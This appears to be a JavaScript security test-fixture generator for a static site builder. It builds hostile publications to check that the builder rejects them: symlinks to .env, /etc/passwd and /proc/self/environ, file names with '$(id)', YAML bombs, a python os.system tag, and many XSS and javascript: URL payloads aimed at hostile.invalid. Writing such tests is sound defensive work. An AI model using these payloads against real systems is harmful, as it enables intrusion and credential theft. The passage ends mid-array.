// The hostile publications, by class. Each generator yields
//
//   name      what it is
//   write     (lab) => …, writes it over a publication that has nothing wrong
//   tells     files that a finding of the build must name
//   word      what such a finding must say
//   lost      the build need not have the home page and reports/a.html
//   keeps     { address: text } of pages that must be what the program makes
//   absent    patterns of addresses that must not be in the site
//   also      which of import, new and serve are run too
//   output    the site's folder in the publication, if it is not the usual one
//   queries   what is searched for; what begins with q= is the query of the address
//   open      false: not opened in the browser
//   trusted   the pages are the theme's own affair
//
// and says with `rng(n)` what is to be by chance.

import { cpSync } from 'node:fs';
import path from 'node:path';
import { picture, report, run } from './lab.mjs';

const json = JSON.stringify; // JSON is YAML

/* ---- symbolic links, pipes, sockets, devices */

const LEAVES = {
  'content/reports/x.md': 'md',
  'content/reports/x.txt': 'txt',
  'content/reports/x.pdf': 'pdf',
  'content/reports/x.png': 'png',
  'content/pages/x.md': 'md',
  'content/pages/x.txt': 'txt',
  'themes/default/assets/x.css': 'css',
  'themes/default/templates/404.html': 'html',
  'themes/default/phrases/zh-CN.yaml': 'yaml',
  'themes/default/theme.yaml': 'yaml',
  'content/organizations.yaml': 'yaml',
  'content/topics.yaml': 'yaml',
  'content/metrics.yaml': 'yaml',
  'content/terms.yaml': 'yaml',
  'content/site.yaml': 'yaml',
};
const ENDS = {
  outside: (lab, place, kind) => lab.link(place, `outside/secret.${kind}`),
  absolute: (lab, place, kind) => lab.link(place, path.join(lab.home, `outside/secret.${kind}`)),
  git: (lab, place) => lab.link(place, 'pub/.git/config'),
  env: (lab, place) => lab.link(place, 'pub/.env'),
  hidden: (lab, place) => lab.link(place, 'pub/.secret/hidden.md'),
  notes: (lab, place) => lab.link(place, 'pub/notes.txt'),
  dots: (lab, place) => lab.link(place, 'pub/content/reports/../../.env'),
  etc: (lab, place) => lab.link(place, '/etc/passwd'),
  zero: (lab, place) => lab.link(place, '/dev/zero'),
  pipe: (lab, place) => (lab.fifo('outside/pipe'), lab.link(place, 'outside/pipe')),
  chain: (lab, place, kind) => (lab.link(`${path.dirname(place)}/y.${kind}`, `outside/secret.${kind}`), lab.link(place, `pub/${path.dirname(place)}/y.${kind}`)),
  loop: (lab, place) => lab.rawLink(place, path.basename(place)),
  dangling: (lab, place) => lab.link(place, 'outside/nothing'),
};
const FOLDERS = ['content', 'content/reports', 'content/pages', 'content/reports/dir', 'themes', 'themes/default', 'themes/default/assets', 'themes/default/templates', '.huibian'];
const FOLDER_ENDS = {
  outside: (place) => ({ content: 'outside/content', 'content/reports': 'outside/content/reports', themes: 'outside', 'themes/default': 'outside/theme', 'themes/default/assets': 'outside/theme/assets', 'themes/default/templates': 'outside/theme/templates' })[place] ?? 'outside',
  git: () => 'pub/.git',
  secret: () => 'pub/.secret',
  empty: () => 'empty',
  root: () => 'pub',
  dangling: () => 'outside/nothing',
};

function* links() {
  const usesX = report('', '[甲](x.txt)，[乙](x.pdf)，[丙](x.md)\n\n![丁](x.png)');
  for (const [place, kind] of Object.entries(LEAVES)) {
    for (const [end, make] of Object.entries(ENDS)) {
      yield {
        name: `${place} → ${end}`,
        write: (lab) => {
          lab.put('content/reports/b.md', usesX);
          make(lab, place, kind);
        },
        tells: [place],
        word: /dangling|loop/.test(end) ? undefined : /link/,
        lost: /^content\/.*\.yaml$/.test(place),
        keeps: place.endsWith('404.html') ? { '404.html': 'class="lost"' } : undefined,
        absent: [/(^|\/)x\.(txt|pdf|png|css)$/, /(^|\/)x\.html$/],
        open: end === 'outside',
      };
    }
  }
  for (const place of FOLDERS) {
    for (const [end, target] of Object.entries(FOLDER_ENDS)) {
      yield {
        name: `${place}/ → ${end}`,
        write: (lab) => lab.link(place, target(place)),
        tells: place === '.huibian' ? undefined : [place],
        word: end === 'dangling' ? undefined : /link/,
        lost: /^(content(\/reports)?|themes(\/default)?|\.huibian)$/.test(place),
        also: ['import', 'new'],
        open: false,
      };
    }
  }
  // Links within content are let in by a setting, and only those.
  const LET_IN = {
    'by two dots': (lab) => lab.link('content/reports/x.txt', 'outside/secret.txt'),
    'by two dots, hidden': (lab) => lab.rawLink('content/reports/x.txt', '../../content/../.env'),
    'by dots below a file': (lab) => lab.rawLink('content/reports/x.txt', 'a.md/../../../.env'),
    'by a second link': (lab) => (lab.link('content/reports/dir', 'outside'), lab.rawLink('content/reports/x.txt', 'dir/secret.txt')),
    'by a second link, hidden': (lab) => (lab.rawLink('content/reports/dir', '../../.secret'), lab.rawLink('content/reports/x.md', 'dir/hidden.md')),
    'dots through a link': (lab) => (lab.link('content/reports/dir', 'outside/content/reports'), lab.rawLink('content/reports/x.md', 'dir/../../secret.md')),
    'to what is hidden in content': (lab) => (cpSync(path.join(lab.pub, '.secret'), path.join(lab.pub, 'content/reports/.in'), { recursive: true }), lab.rawLink('content/reports/x.md', '.in/hidden.md')),
    'to a hidden folder in content': (lab) => (cpSync(path.join(lab.pub, '.secret'), path.join(lab.pub, 'content/.in'), { recursive: true }), lab.rawLink('content/reports/dir', '../.in')),
    'to the publication': (lab) => lab.rawLink('content/reports/dir', '../..'),
    'to content': (lab) => lab.rawLink('content/reports/dir', '..'),
    'to the home': (lab) => lab.link('content/reports/dir', '.'),
    'absolute': (lab) => lab.link('content/reports/x.txt', path.join(lab.home, 'outside/secret.txt')),
    'through proc': (lab) => lab.rawLink('content/reports/x.txt', '/proc/self/cwd/.bashrc'),
    'to the environment': (lab) => lab.rawLink('content/reports/x.txt', '/proc/self/environ'),
    'forty links': (lab) => {
      for (let step = 0; step < 45; step += 1) lab.rawLink(`content/reports/l${step}.txt`, step ? `l${step - 1}.txt` : '../../.env');
      lab.rawLink('content/reports/x.txt', 'l44.txt');
    },
    'a site.yaml that is a link': (lab) => (lab.put('content/s.yaml', 'title: 汇编\nlinks: content\n'), lab.rawLink('content/site.yaml', 's.yaml'), lab.link('content/reports/x.txt', 'outside/secret.txt')),
    'a mended file that is a link': (lab) => (lab.put('content/pages/t.md', '---\ntitle: 甲\n---\n\n有党员38名,两件事。\n'), lab.link('content/reports/x.md', 'outside/secret.md')),
  };
  for (const [end, make] of Object.entries(LET_IN)) {
    yield {
      name: `links: content, ${end}`,
      write: (lab) => {
        lab.put('content/site.yaml', 'title: 汇编\nlinks: content\n');
        lab.put('content/reports/b.md', usesX);
        make(lab);
      },
      lost: true,
      absent: [/hidden|secret/],
      also: ['import', 'serve'],
      open: false,
    };
  }
}

function* staging() {
  const NAMES = ['.a.md.huibian', '.a.md.tmp', '.a.md.huibian-new', 'a.md.huibian', '.a.md.huibian.tmp', '.a.md~', '.a.md.bak', '.a.md.huibian-0', '.huibian-a.md', '.a.md.huibian.lock', '.huibian'];
  for (const name of NAMES) {
    for (const end of ['.bashrc', 'outside/new', 'pub/.git/config']) {
      yield { name: `${name} → ${end}`, write: (lab) => lab.link(`content/reports/${name}`, end), also: ['import', 'new'], open: false };
    }
    yield { name: `${name} is a folder`, write: (lab) => lab.put(`content/reports/${name}/x`, ''), also: ['import'], open: false };
    yield { name: `${name} is a pipe`, write: (lab) => lab.fifo(`pub/content/reports/${name}`), also: ['import'], open: false };
  }
  for (const name of ['.huibian/lock', '.huibian/journal', '.huibian/backup', '.huibian/cache', '.huibian/staging']) {
    for (const end of ['.bashrc', 'outside/new', 'empty']) yield { name: `${name} → ${end}`, write: (lab) => lab.link(name, end), also: ['import', 'new', 'serve'], lost: true, open: false };
  }
  for (const name of ['content/reports/2023', 'content/reports/2023/jiazongjie.md', 'content/reports/2023/.jiazongjie.md.huibian', 'content/reports/2023/.diyizhibu-2023-niangongzuozongjie.md.huibian', 'content/reports/2023/diyizhibu-2023-niangongzuozongjie.md']) {
    for (const end of ['.bashrc', 'empty', 'outside/new']) yield { name: `imported into ${name} → ${end}`, write: (lab) => lab.link(name, end), also: ['import', 'new'], lost: true, open: false };
  }
}

function* output() {
  const ledger = (lab, ...names) => lab.put('public/.huibian/ledger', `huibian-ledger 1 ${names.length}\n${names.map((name) => `${name}\n`).join('')}`);
  const WAYS = {
    'public → empty': (lab) => lab.link('public', 'empty'),
    'public → outside/nothing': (lab) => lab.link('public', 'outside/nothing'),
    'public → outside': (lab) => lab.link('public', 'outside'),
    'public → content': (lab) => lab.rawLink('public', 'content'),
    'public → .git': (lab) => lab.rawLink('public', '.git'),
    'public → publication': (lab) => lab.rawLink('public', '.'),
    'public is a pipe': (lab) => lab.fifo('pub/public'),
    'ledger tells of what is outside': (lab) => ledger(lab, '../../.bashrc', '../.env', '/etc/hostname', '../content/reports/a.md', '..\\..\\.bashrc', 'x/../../../.bashrc', './../../.bashrc'),
    'ledger → .bashrc': (lab) => lab.link('public/.huibian/ledger', '.bashrc'),
    'ledger → empty': (lab) => lab.link('public/.huibian/ledger', 'outside/new'),
    'ledger is a pipe': (lab) => (lab.put('public/.huibian/lock', ''), lab.fifo('pub/public/.huibian/ledger')),
    'ledger → /dev/zero': (lab) => lab.link('public/.huibian/ledger', '/dev/zero'),
    'lock → .bashrc': (lab) => (ledger(lab), lab.link('public/.huibian/lock', '.bashrc')),
    'lock → outside/new': (lab) => (ledger(lab), lab.link('public/.huibian/lock', 'outside/new')),
    'lock is a pipe': (lab) => (ledger(lab), lab.fifo('pub/public/.huibian/lock')),
    '.huibian → outside': (lab) => lab.link('public/.huibian', 'outside'),
    '.huibian → empty': (lab) => lab.link('public/.huibian', 'empty'),
    '.public.huibian-new → empty': (lab) => lab.link('.public.huibian-new', 'empty'),
    '.public.huibian-new → .bashrc': (lab) => lab.link('.public.huibian-new', '.bashrc'),
    '.public.huibian-new → outside': (lab) => lab.link('.public.huibian-new', 'outside'),
    '.public.huibian-old → outside': (lab) => lab.link('.public.huibian-old', 'outside'),
    'index.html → .bashrc': (lab) => (ledger(lab, 'index.html'), lab.link('public/index.html', '.bashrc')),
    'index.html → .bashrc, not of the ledger': (lab) => (ledger(lab), lab.link('public/index.html', '.bashrc')),
    'index.html is a pipe': (lab) => (ledger(lab, 'index.html'), lab.fifo('pub/public/index.html')),
    'reports → outside': (lab) => (ledger(lab, 'reports/secret.txt', 'reports/a.html', 'reports/content/site.yaml'), lab.link('public/reports', 'outside')),
    'search → empty': (lab) => (ledger(lab, 'search/manifest.js'), lab.link('public/search', 'empty')),
    'orgs → ../content': (lab) => (ledger(lab, 'orgs/site.yaml', 'orgs/reports/a.md'), lab.rawLink('public/orgs', '../content')),
    'staged index.html → .bashrc': (lab) => (ledger(lab, 'index.html'), lab.put('public/index.html', 'old'), ['.index.html.huibian', '.index.html.huibian-new', '.index.html.tmp', '.huibian/index.html', '.huibian/tmp', '.huibian/new'].forEach((name) => lab.link(`public/${name}`, '.bashrc'))),
    'staged ledger → .bashrc': (lab) => (ledger(lab, 'index.html'), ['ledger.huibian', '.ledger.huibian', 'ledger.new', 'ledger.tmp', '.ledger.huibian-new'].forEach((name) => lab.link(`public/.huibian/${name}`, '.bashrc'))),
  };
  for (const [name, write] of Object.entries(WAYS)) {
    for (const again of [false, true]) {
      yield {
        name: `${name}${again ? ', after a build' : ''}`,
        write: async (lab, { binary }) => {
          if (again) await run(binary, ['build', '--source', lab.pub], { home: lab.home });
          // What the hostile way puts there takes the place of what was built.
          await write(lab);
        },
        output: 'public',
        lost: true,
        open: false,
        also: [],
      };
    }
  }
}

/* ---- file names */

const MARKUP = ['<img src=x onerror=__pwned()>', '"><script>__pwned()</script>', "' onmouseover='__pwned()' x='", '</title><script>__pwned()</script>', '</script><script>__pwned()</script>', '<!--<script>', '{{ 7*7 }}{% include "x" %}pwned', '&lt;img src=x onerror=__pwned()&gt;', '\u2028__pwned()\u2029', 'javascript:__pwned()', ']]><script>__pwned()</script>', '`${__pwned()}`', "');__pwned();//", '\\"-__pwned()-\\"', '<svg/onload=__pwned()>', '<base href=https://hostile.invalid/>', '<meta http-equiv=refresh content=0;url=https://hostile.invalid/>', '<iframe srcdoc="<script>parent.__pwned()</script>">', '<link rel=stylesheet href=//hostile.invalid/x>', '<form action=https://hostile.invalid/><button>'];

function* names(rng) {
  const odd = [
    'a\nb', 'a\r\n::error::pwned', 'a\tb', '\u001b[31mred\u001b[0m', '\u202egpj.txt', 'שלום', '...', 'a..b', '..a', '-rf', '--output=x', ' lead', 'trail ', 'trail.', 'é'.repeat(125), 'x'.repeat(251), '长'.repeat(83), 'CON', 'aux', 'com1', 'nul.txt', '%2e%2e%2fx', '..\\..\\x', 'a?b#c', 'a%00b', 'C:x', '$(id)', '`id`', ';id', '*', '~', '__proto__', 'constructor', 'index', 'search', 'manifest', '404', 'robots', '\u200b', '\ufeff', '\u0085x', '\u00a0', '😀', '\ud83d', 'a:b', '|', '~$doc', 'Thumbs.db', '\u0007', '\u009b31m',
    ...MARKUP.filter((text) => !text.includes('/')),
  ];
  for (const name of odd) {
    yield {
      name: json(name),
      write: (lab) => {
        for (const place of ['reports', 'pages', 'reports/dir']) {
          lab.put(`content/${place}/${name}.md`, place === 'pages' ? `---\ntitle: 甲\n---\n\npwned\n` : report('', 'pwned'));
          lab.put(`content/${place}/${name}.txt`, 'x');
          lab.put(`content/${place}/${name}.png`, picture);
        }
        lab.put('content/reports/b.md', report('', `pwned [甲](<${name.replace(/[\n\r<>]/g, '')}.txt>) ![乙](<${name.replace(/[\n\r<>]/g, '')}.png>)`));
        lab.put(`content/reports/${name.slice(0, 80)}/in.md`, report('', 'pwned'));
        lab.put(`themes/default/assets/${name}.css`, 'a{}');
      },
    };
  }
  const SETS = {
    'NFC and NFD': ['caf\u00e9.md', 'cafe\u0301.md'],
    'two cases': ['A.md', 'B.md', 'b.md', 'Dir/x.md', 'dir/x.md'],
    'one pinyin': ['血液.md', 'xueye.md', '血夜.md'],
    'long s and K': ['ſ.md', 's.md', 'K.md', 'k.md'],
    'not UTF-8': [Buffer.from('ff.md').fill(0xff, 0, 2), Buffer.from([0x2e, 0x2e, 0xff, 0x2f, 0x61, 0x2e, 0x6d, 0x64]), Buffer.from([0xc0, 0xae, 0xc0, 0xae, 0x2e, 0x6d, 0x64])],
    'a report and a folder of its address': ['x.md', 'x.html/y.md', 'x/y.md', 'y.md/z.md'],
    'many dots': ['....md', '.....txt', '.md', '..md'],
  };
  for (const [name, files] of Object.entries(SETS)) {
    yield { name, write: (lab) => files.forEach((file) => lab.put(Buffer.concat([Buffer.from('content/reports/'), Buffer.from(file)]), report('', `pwned${rng(9)}`))) };
  }
  yield { name: '1000 folders deep', write: (lab) => lab.put(`content/reports/${'d/'.repeat(1000)}x.md`, report('', 'pwned')) };
  yield { name: '20 folders with names of 200', write: (lab) => lab.put(`content/pages/${`${'d'.repeat(180)}/`.repeat(18)}x.md`, '---\ntitle: 甲\n---\n\npwned\n') };
  yield { name: '3000 files', open: false, write: (lab) => Array.from({ length: 3000 }, (_, n) => lab.put(`content/reports/f${n}.txt`, 'x')) };
  for (const kind of ['fifo', 'socket', 'device']) {
    for (const name of ['x.md', 'x.txt', 'x.png', 'site.yaml', 'organizations.yaml', 'default/theme.yaml', 'default/assets/x.css', 'default/templates/404.html']) {
      const place = name.startsWith('default') ? `themes/${name}` : name.startsWith('x') ? `content/reports/${name}` : `content/${name}`;
      yield {
        name: `${kind} ${place}`,
        write: (lab) => {
          lab.put(`${place}.put`, '');
          lab.remove(`${place}.put`);
          lab.remove(place);
          lab[kind](`pub/${place}`);
          lab.put('content/reports/b.md', report('', '[甲](x.txt) [乙](x.md) ![丙](x.png)'));
        },
        tells: name === 'site.yaml' ? undefined : [place],
        lost: name.endsWith('.yaml'),
        open: false,
        also: ['serve'],
      };
    }
  }
}

/* ---- YAML */

const ALL_KEYS = {
  site: ['title', 'seal', 'base_url', 'language', 'theme', 'description', 'introduction', 'publisher', 'footer', 'llms', 'page_size', 'allow'],
  report: ['title', 'branch', 'year', 'subtitle', 'date', 'genre', 'topics', 'authors', 'editors', 'source', 'abstract', 'keywords', 'doi', 'achievements', 'honours', 'metrics', 'people', 'status', 'allow'],
  page: ['title', 'nav', 'order', 'language', 'description', 'allow'],
  organization: ['id', 'name', 'names', 'short', 'full', 'kind', 'parent', 'children', 'rank', 'aliases', 'founded', 'closed', 'merged_into', 'description', 'pinyin'],
  topic: ['id', 'name', 'english', 'synonyms', 'scope'],
  metric: ['id', 'name', 'unit', 'kind', 'definition', 'synonyms'],
};

/** Every string field of every file has this text. */
function everywhere(lab, text) {
  const j = json(text);
  lab.put('content/site.yaml', `title: ${j}\nseal: ${json([...text].slice(0, 4).join(''))}\ndescription: ${j}\nintroduction: ${j}\npublisher: ${j}\nfooter: [${j}, ${j}]\nbase_url: https://example.org/\n`);
  lab.put('content/organizations.yaml', json([{ id: 'jia', name: text, short: text, full: text, kind: text, description: text, pinyin: text, aliases: [text], children: [{ id: 'zhi', names: [{ name: `${text}旧`, from: 2001, to: 2010 }, { name: `${text}乙`, short: text, from: 2010 }], kind: text, parents: [{ id: 'jia', relation: text }] }] }, { id: 'jia2', name: '甲医院', children: [{ id: 'zhi2', name: '第一支部' }] }]));
  lab.put('content/topics.yaml', json([{ id: 'tt', name: text, english: text, scope: text, synonyms: [`${text}别`] }]));
  lab.put('content/metrics.yaml', json([{ id: 'mm', name: text, unit: text, kind: 'stock', definition: text, synonyms: [`${text}别`] }]));
  for (const year of [2021, 2022, 2023]) {
    lab.put(`content/reports/m${year}.md`, `---\n${json({
      title: text, subtitle: text, branch: 'zhi', year, genre: text, topics: [text], authors: [text], editors: [text], abstract: text, keywords: [text], doi: `10.1000/${text}`,
      source: { name: text, issue: text, url: `https://example.org/${encodeURIComponent(text.toWellFormed())}`, file: text },
      achievements: [{ text, topics: [text], figures: [{ name: text, value: 5, unit: text, note: text }] }, text],
      honours: [{ name: text, level: '市', grantor: text, recipient: text }, text],
      metrics: [{ name: text, value: 10 + year, unit: text, base: 5, note: text, approx: '余' }],
      people: [{ name: text, role: text, unit: text, title: text }],
    })}\n---\n\npwned ${text.replaceAll('\n', ' ')}\n`);
  }
  lab.put('content/pages/p.md', `---\n${json({ title: text, description: text, nav: true })}\n---\n\npwned\n`);
}

function* yaml(rng) {
  for (const text of MARKUP) yield { name: `every field is ${json(text)}`, write: (lab) => everywhere(lab, text), queries: [text, 'pwned'] };
  const SHAPES = {
    null: 'null', list: '[]', map: '{}', deep: `${'['.repeat(60)}${']'.repeat(60)}`, huge: '1e999', nan: '.nan', hex: '0xffffffffffffffffffff', bool: 'true', date: '2001-01-01T00:00:00Z', binary: '!!binary "AAAA"', python: '!!python/object/apply:os.system [id]', tag: '!<tag:hostile.invalid,2000:x> a', anchor: '&a [*a]', merge: '{<<: {a: 1}, b: 2}', negative: '-9223372036854775809', big: '99999999999999999999999', empty: '""', maps: '[{a: {b: {c: [1, {d: 2}]}}}]', proto: '{__proto__: {x: 1}, constructor: {prototype: 1}}', long: json('长'.repeat(60_000)), year: '0', float: '1.5', mixed: '[a, {b: c}, [d], 1, null, true]',
  };
  for (const [name, value] of Object.entries(SHAPES)) {
    yield {
      name: `every key is ${name}`,
      lost: true,
      write: (lab) => {
        const lines = (keys, first = '') => keys.map((key) => `${first}${key}: ${value}\n`).join('');
        lab.put('content/site.yaml', `title: 汇编\n${lines(ALL_KEYS.site.slice(1))}`);
        ALL_KEYS.report.forEach((key) => lab.put(`content/reports/k-${key}.md`, `---\n${['title: 甲', 'branch: 甲医院', 'year: 2023'].filter((line) => !line.startsWith(`${key}:`)).join('\n')}\n${key}: ${value}\n---\n\npwned\n`));
        ALL_KEYS.page.forEach((key) => lab.put(`content/pages/k-${key}.md`, `---\n${key === 'title' ? '' : 'title: 甲\n'}${key}: ${value}\n---\n\npwned\n`));
        for (const [file, kind] of [['organizations', 'organization'], ['topics', 'topic'], ['metrics', 'metric']]) {
          lab.put(`content/${file}.yaml`, ALL_KEYS[kind].map((key, place) => `- {id: i${place}, name: 名${place}, ${key === 'id' || key === 'name' ? '' : `${key}: ${value}`}}\n`).join('') + `- ${value}\n`);
        }
        lab.put('content/terms.yaml', `- ${value}\n`);
        lab.put('themes/default/theme.yaml', `name: ${value}\n`);
      },
    };
  }
  const bomb = (levels) => Array.from({ length: levels }, (_, n) => `a${n}: &a${n} [${Array(10).fill(n ? `*a${n - 1}` : 'x').join(', ')}]\n`).join('');
  const TEXTS = {
    'alias bomb': `${bomb(9)}title: *a8\n`,
    'alias bomb of texts': `k0: &k0 "${'x'.repeat(1000)}"\n${Array.from({ length: 8 }, (_, n) => `k${n + 1}: &k${n + 1} {${Array.from({ length: 9 }, (_, m) => `m${m}: *k${n}`).join(', ')}}\n`).join('')}`,
    'an anchor of itself': 'title: &a [*a]\n',
    'merge keys': `base: &b {title: 乙}\n<<: [${Array(1000).fill('*b').join(', ')}]\n`,
    '100,000 deep': `title: ${'['.repeat(100_000)}\n`,
    '100,000 deep maps': `title: ${'{a: '.repeat(100_000)}\n`,
    'deep by indentation': Array.from({ length: 1500 }, (_, n) => `${' '.repeat(n)}a:\n`).join(''),
    '50,000 keys': Array.from({ length: 50_000 }, (_, n) => `k${n}: 1\n`).join(''),
    '50,000 of one key': 'title: 甲\n'.repeat(50_000),
    'a key of 200,000': `${'k'.repeat(200_000)}: 1\n`,
    'complex keys': '? [a, b]\n: c\n? {x: y}\n: z\n? |\n  pwned\n: 1\n',
    'two documents': 'title: 甲\n---\ntitle: 乙\n...\n%YAML 1.1\n---\n',
    'directives': '%YAML 9.9\n%TAG ! tag:hostile.invalid,2000:\n---\ntitle: !x 甲\n',
    'NUL': 'title: "a\0b"\n',
    'escapes': 'title: "\\0\\x1b[31m\\u202e\\ud800\\udfff\\uFFFE\\U0010FFFF\\r\\n"\n',
    'tabs': 'title:\t甲\n\tseal: 乙\n',
    'CR only': 'title: 甲\rseal: 乙\r',
    'a comment of a megabyte': `# ${'x'.repeat(1_000_000)}\ntitle: 甲\n`,
    'block of a megabyte': `title: |\n${'  xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n'.repeat(20_000)}`,
    'percent and at': 'title: @甲\nseal: %乙\npublisher: `c`\n',
    'a quote without end': `title: "${'a'.repeat(100_000)}\n`,
    'tags': 'title: !!set {a, b}\nseal: !!omap [a: 1]\nfooter: !!js/function "__pwned()"\npublisher: !include ../../.env\n',
    'addresses': 'title: 汇编\nbase_url: "javascript:__pwned()"\n',
    'addresses, data': 'title: 汇编\nbase_url: "data:text/html,<script>__pwned()</script>"\n',
    'addresses, markup': `title: 汇编\nbase_url: 'https://example.org/"><script>__pwned()</script>'\n`,
    'addresses, user': 'title: 汇编\nbase_url: "https://a:b@hostile.invalid:1/../x?y#z"\n',
    'addresses, of another host': 'title: 汇编\nbase_url: "//hostile.invalid/"\n',
    'bytes': Buffer.from([0x74, 0x3a, 0x20, 0xff, 0xfe, 0x0a]),
    'UTF-16': Buffer.from('\ufefftitle: 汇编\n', 'utf16le'),
  };
  for (const [name, text] of Object.entries(TEXTS)) {
    yield {
      name,
      lost: true,
      write: (lab) => {
        const front = Buffer.concat([Buffer.from('---\n'), Buffer.from(text), Buffer.from('---\n\npwned\n')]);
        lab.put('content/reports/y.md', front);
        lab.put('content/pages/y.md', front);
        lab.put(`content/${['organizations', 'topics', 'metrics', 'terms'][rng(4)]}.yaml`, text);
        lab.put('content/site.yaml', /^addresses|tags|escapes/.test(name) ? text : Buffer.concat([Buffer.from('title: 汇编\n'), Buffer.from(text)]));
        lab.put('themes/default/phrases/zh-CN.yaml', text);
        lab.put('themes/default/theme.yaml', text);
      },
    };
  }
  const URLS = ['javascript:__pwned()', ' javascript:__pwned()', 'JaVaScRiPt:__pwned()', 'java\tscript:__pwned()', '\u0001javascript:__pwned()', 'data:text/html,<script>__pwned()</script>', 'vbscript:x', 'blob:https://hostile.invalid/x', 'file:///etc/passwd', 'https://hostile.invalid/"onclick="__pwned()', "https://hostile.invalid/'><script>__pwned()</script>", 'http:javascript:__pwned()', '//hostile.invalid', 'https:hostile.invalid', 'https://[', 'https://例え.テスト/', 'view-source:x', 'feed:javascript:__pwned()'];
  yield { name: 'addresses of sources', queries: URLS.slice(0, 3), write: (lab) => URLS.forEach((url, place) => lab.put(`content/reports/u${place}.md`, report(`source: {name: pwned, url: ${json(url)}, file: ${json(url)}}\ndoi: ${json(`10.1/${url}`)}\n`))) };
}

/* ---- Markdown */

const VECTORS = [
  // HTML as it is
  '<script>__pwned()</script>', '<ScRiPt src=//hostile.invalid/x></sCrIpT>', '<img src=x onerror=__pwned()>', '<img/src="x"/onerror=__pwned()>', '<svg><script>__pwned()</script></svg>', '<svg><animate onbegin=__pwned() attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=__pwned()>', '<noscript><p title="</noscript><img src=x onerror=__pwned()>">', '<iframe src=javascript:__pwned()></iframe>', '<object data=//hostile.invalid/x>', '<embed src=//hostile.invalid/x>', '<base href=//hostile.invalid/>', '<meta http-equiv=refresh content=0;url=//hostile.invalid/>', '<link rel=stylesheet href=//hostile.invalid/x>', '<style>@import"//hostile.invalid/x"</style>', '<details open ontoggle=__pwned()>', '<input autofocus onfocus=__pwned()>', '<a href="javascript:__pwned()">甲</a>', '<br onclick=__pwned()>', '<br/onload=__pwned()>', '<br\n>pwned', '<p style=background:url(//hostile.invalid/x)>', '<!--><script>__pwned()</script>-->', '<!-- --!><script>__pwned()</script> -->', '<!---><img src=x onerror=__pwned()>', '<![CDATA[<script>__pwned()</script>]]>', '<?php <script>__pwned()</script> ?>', '<!DOCTYPE x [<!ENTITY y "<script>__pwned()</script>">]>', '</article></main></body><script>__pwned()</script>', '<form action=//hostile.invalid><button formaction=javascript:__pwned()>', '<template><script>__pwned()</script></template>', '<textarea></textarea><script>__pwned()</script>', '\u003cscript\u003e__pwned()\u003c/script\u003e', '＜script＞__pwned()＜/script＞', '<scr\0ipt>__pwned()</scr\0ipt>', '<scr<script>ipt>__pwned()</scr</script>ipt>', '&lt;script&gt;__pwned()&lt;/script&gt;', '&#60;script&#62;__pwned()&#60;/script&#62;', '&#x3c;img src=x onerror=__pwned()&#x3e;', '&LT;img src=x onerror=__pwned()&GT;', '\\<script>__pwned()\\</script>',
  // addresses
  ...['javascript:__pwned()', 'JAVASCRIPT:__pwned()', 'javascript&colon;__pwned()', '&#106;avascript:__pwned()', '&#x6A;avascript&#58;__pwned()', 'java&Tab;script:__pwned()', 'java&NewLine;script:__pwned()', '\u0001javascript:__pwned()', '\u00a0javascript:__pwned()', 'javascript\\:__pwned()', '%6aavascript:__pwned()', 'javascript%3a__pwned()', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgpPC9zY3JpcHQ+', 'data:image/svg+xml,<svg/onload=__pwned()>', 'vbscript:__pwned()', 'file:///etc/passwd', 'blob:x', '//hostile.invalid/x', '\\\\\\\\hostile.invalid/x', '/\\\\hostile.invalid', 'https:hostile.invalid', 'http:javascript:__pwned()', '../../../../../.bashrc', '../../.env', '/etc/passwd', '%2e%2e/%2e%2e/.env', '..%2f..%2f.env', 'a.md?x="onclick="__pwned()', 'a.md#"onclick="__pwned()', '#"><script>__pwned()</script>', 'mailto:a@b?body=<script>__pwned()</script>', 'tel:1"onclick="__pwned()', 'https://hostile.invalid/"onmouseover="__pwned()', "https://hostile.invalid/'onmouseover='__pwned()", 'https://hostile.invalid/<script>__pwned()</script>', 'ｊａｖａｓｃｒｉｐｔ:__pwned()', 'jav\u00adascript:__pwned()', 'javascript：__pwned()', 'feed:javascript:__pwned()', 'intent://x#Intent;S.x=__pwned();end', 'ms-msdt:/id pwned', 'smb://hostile.invalid/x'].map((url) => `[甲](${url}) [乙](<${url}> "pwned") ![丙](${url}) ![丁](<${url}> "图1 pwned") <${url}> [戊][r] [r]\n\n[r]: <${url}> 'x" onclick="__pwned()'`),
  // attributes, titles, identifiers
  '[甲](https://example.org/ "x\\" onclick=\\"__pwned()")', "![甲](x.png 'x\" onerror=\"__pwned()')", '![" onerror="__pwned()](x.png)', '[" onclick="__pwned()](a.md)', '[甲](a.md){onclick=__pwned() .x #y style=color:red}', '**甲**{onclick=__pwned()}', '`甲`{onclick=__pwned()}', '![甲](x.png){onerror=__pwned()}',
  '```"><script>__pwned()</script>\npwned\n```', "```x' onclick='__pwned()\npwned\n```", '``` {.html onclick=__pwned()}\npwned\n```', '~~~ <img src=x onerror=__pwned()>\n</code></pre><script>__pwned()</script>\n~~~', '`</code><script>__pwned()</script>`', '    </pre><script>__pwned()</script>',
  '$\\href{javascript:__pwned()}{x}$ $$<img src=x onerror=__pwned()>$$', 'H<sub onclick=__pwned()>2</sub>O ==pwned== ^pwned^ ~pwned~', ':::{onclick=__pwned()}\npwned\n:::', '{{ 7*7 }} {% raw %}pwned{% endraw %} {{ get_env(name="TOKEN") }}', '[[javascript:__pwned()]] [[a|<script>__pwned()</script>]]', '[TOC] [^1]: pwned', '> [!"onclick="__pwned()]\n> pwned', '> [!NOTE]<script>__pwned()</script>\n> <img src=x onerror=__pwned()>', '- [<img src=x onerror=__pwned()>] pwned\n- [x]{onclick=__pwned()} pwned', '甲[^"><script>__pwned()</script>]\n\n[^"><script>__pwned()</script>]: <img src=x onerror=__pwned()>', '甲[^__proto__] 乙[^ref-constructor] 丙[^main]\n\n[^__proto__]: pwned\n[^ref-constructor]: pwned\n[^main]: pwned', '<https://hostile.invalid/"onclick="__pwned()> <a@b"onclick="__pwned()> www.hostile.invalid',
